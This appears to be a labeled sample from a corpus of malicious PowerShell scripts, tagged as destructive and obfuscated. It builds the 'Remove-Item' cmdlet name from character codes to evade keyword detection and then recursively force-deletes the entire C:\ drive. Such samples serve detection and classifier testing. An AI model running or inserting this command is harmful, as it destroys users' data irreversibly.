# description: Builds Remove-Item from a [char[]] array and deletes C:\.
# family: destruction
# obfuscated: yes
$n = ([char[]](82,101,109,111,118,101,45,73,116,101,109)) -join ''
& $n -Path 'C:\' -Recurse -Force
